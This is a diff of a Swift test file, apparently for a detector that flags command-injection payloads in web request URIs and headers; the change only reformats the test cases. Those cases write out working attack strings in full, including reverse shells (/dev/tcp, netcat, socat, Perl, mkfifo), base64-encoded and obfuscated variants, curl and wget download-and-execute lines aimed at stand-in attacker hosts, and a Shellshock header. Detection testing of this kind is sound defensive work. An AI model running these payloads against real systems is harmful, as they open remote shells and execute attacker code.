@@ -23,37 +23,51 @@ import Testing
     }
 
     static let malicious: [Case] = [
-        Case(uri: storyShellRaw, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp", "interactive-shell"]),
+        Case(
+            uri: storyShellRaw, host: "35.217.6.162", port: 3000,
+            techniques: ["chain:&&", "dev-tcp", "interactive-shell"]),
         Case(uri: storyShellEncoded, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp"]),
         Case(uri: storyShellDouble, host: "35.217.6.162", port: 3000, techniques: ["dev-tcp", "multi-encoding"]),
         Case(uri: storyPythonRaw, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "python-socket-shell"]),
-        Case(uri: storyPythonEncoded, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "python-socket-shell"]),
+        Case(
+            uri: storyPythonEncoded, host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "python-socket-shell"]),
         // `+` as space in the query.
-        Case(uri: "/ping?host=1.1.1.1;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261", host: "203.0.113.9", port: 4444,
-             techniques: ["chain:;", "interactive-shell", "dev-tcp"]),
+        Case(
+            uri: "/ping?host=1.1.1.1;bash+-i+>%26+/dev/tcp/203.0.113.9/4444+0>%261", host: "203.0.113.9", port: 4444,
+            techniques: ["chain:;", "interactive-shell", "dev-tcp"]),
         // ${IFS} evasion.
-        Case(uri: "/x?cat=a;nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.7${IFS}9001", host: "198.51.100.7", port: 9001,
-             techniques: ["chain:;", "netcat-exec", "ifs-evasion"]),
-        Case(uri: "/x?cat=a;nc$IFS$9-e$IFS$9/bin/sh$IFS$9198.51.100.7$IFS$99001", host: "198.51.100.7", port: 9001,
-             techniques: ["netcat-exec", "ifs-evasion"]),
+        Case(
+            uri: "/x?cat=a;nc${IFS}-e${IFS}/bin/sh${IFS}198.51.100.7${IFS}9001", host: "198.51.100.7", port: 9001,
+            techniques: ["chain:;", "netcat-exec", "ifs-evasion"]),
+        Case(
+            uri: "/x?cat=a;nc$IFS$9-e$IFS$9/bin/sh$IFS$9198.51.100.7$IFS$99001", host: "198.51.100.7", port: 9001,
+            techniques: ["netcat-exec", "ifs-evasion"]),
         // base64, percent-encoded and raw (`echo B64|base64 -d|bash`, `base64 --decode`).
-        Case(uri: "/q?x=x%26%26echo%20YmFzaCAtaSA%2BJiAvZGV2L3RjcC8zNS4yMTcuNi4xNjIvMzAwMCAwPiYx%7Cbase64%20-d%7Cbash",
-             host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp", "base64-exec", "base64"]),
-        Case(uri: "/q?x=1;echo 'c2ggLWkgPiYgL2Rldi90Y3AvMTAuOS44LjcvNTU1NSAwPiYx' | base64 --decode | sh",
-             host: "10.9.8.7", port: 5555, techniques: ["chain:;", "dev-tcp", "interactive-shell", "base64-exec"]),
+        Case(
+            uri: "/q?x=x%26%26echo%20YmFzaCAtaSA%2BJiAvZGV2L3RjcC8zNS4yMTcuNi4xNjIvMzAwMCAwPiYx%7Cbase64%20-d%7Cbash",
+            host: "35.217.6.162", port: 3000, techniques: ["chain:&&", "dev-tcp", "base64-exec", "base64"]),
+        Case(
+            uri: "/q?x=1;echo 'c2ggLWkgPiYgL2Rldi90Y3AvMTAuOS44LjcvNTU1NSAwPiYx' | base64 --decode | sh",
+            host: "10.9.8.7", port: 5555, techniques: ["chain:;", "dev-tcp", "interactive-shell", "base64-exec"]),
         // %u escapes (IIS style).
-        Case(uri: "/q?x=1%u0026%u0026curl%20http://evil.example:8000/s.sh%7Csh", host: "evil.example", port: 8000,
-             techniques: ["chain:&&", "download-exec", "unicode-escape"]),
-        Case(uri: "/q?f=a|wget -O- http://192.0.2.44/x|sh", host: "192.0.2.44", port: nil,
-             techniques: ["chain:|", "download-exec"]),
+        Case(
+            uri: "/q?x=1%u0026%u0026curl%20http://evil.example:8000/s.sh%7Csh", host: "evil.example", port: 8000,
+            techniques: ["chain:&&", "download-exec", "unicode-escape"]),
+        Case(
+            uri: "/q?f=a|wget -O- http://192.0.2.44/x|sh", host: "192.0.2.44", port: nil,
+            techniques: ["chain:|", "download-exec"]),
         Case(uri: "/q?f=`id`", host: nil, port: nil, techniques: ["chain:`"]),
         Case(uri: "/q?f=$(whoami)", host: nil, port: nil, techniques: ["chain:$("]),
-        Case(uri: "/q?f=x||rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.5 4242 >/tmp/f",
-             host: "192.0.2.5", port: 4242, techniques: ["chain:||", "mkfifo", "interactive-shell"]),
-        Case(uri: "/q?f=1;socat tcp:192.0.2.6:7777 exec:sh,pty,stderr", host: "192.0.2.6", port: 7777,
-             techniques: ["chain:;", "socat-exec"]),
-        Case(uri: "/q?f=1;perl -e 'use Socket;$i=\"192.0.2.8\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
-             host: "192.0.2.8", port: nil, techniques: ["chain:;", "perl-socket-shell"]),
+        Case(
+            uri: "/q?f=x||rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.5 4242 >/tmp/f",
+            host: "192.0.2.5", port: 4242, techniques: ["chain:||", "mkfifo", "interactive-shell"]),
+        Case(
+            uri: "/q?f=1;socat tcp:192.0.2.6:7777 exec:sh,pty,stderr", host: "192.0.2.6", port: 7777,
+            techniques: ["chain:;", "socat-exec"]),
+        Case(
+            uri:
+                "/q?f=1;perl -e 'use Socket;$i=\"192.0.2.8\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");'",
+            host: "192.0.2.8", port: nil, techniques: ["chain:;", "perl-socket-shell"]),
         Case(uri: "/q?f=1%0abash%20-i", host: nil, port: nil, techniques: ["chain:newline", "interactive-shell"]),
         Case(uri: "/q?f=1%0d%0aid", host: nil, port: nil, techniques: ["chain:newline"]),
     ]
@@ -91,7 +105,9 @@ import Testing
 
     @Test func headersAreCheckedForIdiomsOnly() {
         #expect(PayloadMatcher.match(header: "() { :;}; /bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/80 0>&1'") != nil)
-        #expect(PayloadMatcher.match(header: "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0") == nil)
+        #expect(
+            PayloadMatcher.match(header: "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")
+                == nil)
         #expect(PayloadMatcher.match(header: "curl/8.5.0") == nil)
     }
 
